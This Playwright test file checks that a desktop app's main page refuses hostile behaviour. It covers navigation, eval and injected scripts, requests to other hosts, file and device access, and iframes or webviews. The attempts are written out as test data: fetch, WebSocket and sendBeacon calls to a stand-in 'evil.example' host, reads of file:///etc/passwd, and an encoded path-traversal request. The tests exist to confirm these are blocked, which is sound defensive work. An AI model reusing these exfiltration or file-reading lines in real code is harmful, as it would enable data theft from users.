/**
 * A page of ours gone wrong: what script in it could try, and that main and Chromium refuse it. Run on the
 * code as it is built, and in the project `packaged` on the packed app with its fuses.
 */
import type { Page } from '@playwright/test';
import type { RunningApp } from '../support/app.ts';
import { test as base, expect } from '../support/fixtures.ts';
import { PackagedApp } from '../support/packaged-app.ts';
import { conversationList, signIn } from '../support/pages.ts';

const alone = base.extend<{ app: RunningApp | PackagedApp }>({
  app: async ({ launchApp, session, profile }, use, { project }) => {
    if (project.name !== 'packaged') return use(await launchApp());
    session.tray.clear();
    const app = await PackagedApp.launch({ profile, env: session.env });
    await use(app);
    await app.stop();
  },
});

const test = alone.extend<{ page: Page }>({
  page: async ({ app, simulator }, use) => {
    const page = await app.page('main');
    await signIn(page, simulator);
    await use(page);
    // Whatever was tried, the app is still itself.
    expect(page.url()).toMatch(/^app:\/\/app\/index\.html\?view=main/);
    // Not by a locator: Playwright waits for the navigations that were refused.
    const rows = () => document.querySelectorAll('[data-conversation]').length;
    await expect.poll(() => page.evaluate(rows)).toBeGreaterThan(0);
  },
});

/**
 * Runs script as the page's own would run: Playwright's evaluation is exempt from the policy against
 * eval, what a timer of the page starts is not.
 */
function asThePage(page: Page, script: () => unknown): Promise<string> {
  return page.evaluate(
    (source) =>
      new Promise<string>((settle) => {
        const attempt = new Function(`return (${source})()`);
        setTimeout(() => {
          Promise.resolve()
            .then(() => attempt())
            .then(
              (value) => settle(`done: ${String(value)}`),
              (error) => settle(`${error.name}`),
            );
        });
      }),
    script.toString(),
  );
}

/** The part of the policy that the script runs against. */
function violationOf(page: Page, script: () => unknown): Promise<string> {
  return page.evaluate(
    (source) =>
      new Promise<string>((settle) => {
        const report = (event: SecurityPolicyViolationEvent) => settle(event.effectiveDirective);
        document.addEventListener('securitypolicyviolation', report, { once: true });
        new Function(`return (${source})()`)();
      }),
    script.toString(),
  );
}

test('opens no window and leaves for no other address', async ({ app, page }) => {
  const before = await app.addresses();
  for (const address of [
    'https://evil.example/',
    'file:///etc/passwd',
    'app://media/x',
    'app://evil/index.html',
    'data:text/html,attacked',
    'view-source:app://app/index.html',
  ]) {
    expect(await page.evaluate((url) => window.open(url) === null, address)).toBe(true);
    await page.evaluate((url) => {
      const link = document.createElement('a');
      link.href = url;
      link.click();
      link.target = '_blank';
      link.click();
      window.location.href = url;
    }, address);
    await page.waitForTimeout(100);
    expect(await app.addresses()).toEqual(before);
  }
});

alone(
  'a window whose page got away all the same is closed, and opens again',
  async ({ app, simulator, session }) => {
    const page = await app.page('main');
    await signIn(page, simulator);
    // The one address that asks no leave.
    await page.evaluate(() => void window.location.assign('about:blank')).catch(() => {});
    await expect.poll(() => app.addresses()).toEqual([]);
    await (await session.tray.item()).choose(/^Open/);
    await expect(conversationList(await app.page('main'))).toBeVisible();
  },
);

test('runs no script but its own', async ({ page }) => {
  const attempts: [name: string, script: () => unknown, outcome: RegExp][] = [
    // biome-ignore lint/security/noGlobalEval: it is what must not work
    ['eval', () => eval('1 + 1'), /^EvalError|^TypeError/],
    ['Function', () => new Function('return 1')(), /^EvalError|^TypeError/],
    ['a timer of text', () => setTimeout('attacked = 1' as unknown as () => void), /Error$/],
    ['markup', () => Object.assign(document.body, { innerHTML: '<b>x</b>' }), /^TypeError/],
    [
      'an inline script',
      () => Object.assign(document.createElement('script'), { textContent: 'attacked = 1' }),
      /^TypeError/,
    ],
    [
      "another host's script",
      () => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
      /^TypeError/,
    ],
    [
      'an inline handler',
      () => document.body.setAttribute('onclick', 'attacked = 1'),
      /^TypeError/,
    ],
    ['an import', () => import('data:text/javascript,attacked=1' as string), /^TypeError/],
    ['Node', () => (globalThis as { require?: unknown }).require, /^done: undefined$/],
    ['the process', () => typeof process, /^done: undefined$/],
  ];
  for (const [name, script, outcome] of attempts) {
    expect.soft(await asThePage(page, script), name).toMatch(outcome);
  }
  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
});

test('asks no other host for anything', async ({ page }) => {
  const attempts: [script: () => unknown, directive: string][] = [
    [() => fetch('https://evil.example/').catch(() => {}), 'connect-src'],
    [() => new WebSocket('wss://evil.example/'), 'connect-src'],
    [() => navigator.sendBeacon('https://evil.example/'), 'connect-src'],
    [() => Object.assign(new Image(), { src: 'https://evil.example/x.png' }), 'img-src'],
    [() => Object.assign(new Audio(), { src: 'https://evil.example/x.ogg' }), 'media-src'],
    [() => new FontFace('x', 'url(https://evil.example/x.woff2)').load(), 'font-src'],
    [() => document.body.setAttribute('style', 'color: red'), 'style-src-attr'],
    [() => document.body.append(document.createElement('style')), 'style-src-elem'],
  ];
  for (const [script, directive] of attempts) {
    expect.soft(await violationOf(page, script), String(script)).toBe(directive);
  }
});

test('reaches no file and no device', async ({ page }) => {
  const attempts: [name: string, script: () => unknown, outcome: RegExp][] = [
    ['a file', () => fetch('file:///etc/passwd'), /^TypeError/],
    [
      'a file beside the pages',
      () => fetch('/..%2f..%2fpackage.json').then(({ status }) => status),
      /^done: 404$/,
    ],
    [
      'a post to the pages',
      () => fetch('/index.html', { method: 'POST' }).then(({ status }) => status),
      /^done: 405$/,
    ],
    ['media of nobody', () => fetch('app://media/a/b/0'), /^TypeError/],
    [
      'camera',
      () => navigator.mediaDevices.getUserMedia({ video: true }),
      /^Not(Allowed|Found)Error/,
    ],
    [
      'where the computer is',
      () => new Promise((_, fail) => navigator.geolocation.getCurrentPosition(() => {}, fail)),
      /undefined|Error/,
    ],
    ['notifications of its own', () => Notification.requestPermission(), /^done: denied$/],
    ['the clipboard', () => navigator.clipboard.readText(), /^NotAllowedError/],
  ];
  for (const [name, script, outcome] of attempts) {
    expect.soft(await asThePage(page, script), name).toMatch(outcome);
  }
});

test('has no frame and no webview that could do more', async ({ app, page }) => {
  const before = await app.addresses();
  const found = await page.evaluate(async () => {
    const bridges: string[] = [];
    for (const address of [
      'about:blank',
      'app://app/index.html?view=main',
      'https://evil.example/',
    ]) {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
      await new Promise((wake) => setTimeout(wake, 300));
      try {
        const inside = frame.contentWindow as unknown as { wassistTray?: unknown } | null;
        bridges.push(typeof inside?.wassistTray);
      } catch {
        // Of another origin: Chromium shows its own page for what was blocked.
        bridges.push('undefined');
      }
      frame.remove();
    }
    const view = document.createElement('webview');
    view.setAttribute('src', 'https://evil.example/');
    document.body.append(view);
    await new Promise((wake) => setTimeout(wake, 300));
    // Only a real webview has methods.
    const methods = typeof (view as unknown as { getURL?: unknown }).getURL;
    view.remove();
    return [...bridges, methods];
  });
  expect(found).toEqual(['undefined', 'undefined', 'undefined', 'undefined']);
  expect(page.frames()).toHaveLength(1);
  expect(await app.addresses()).toEqual(before);
});
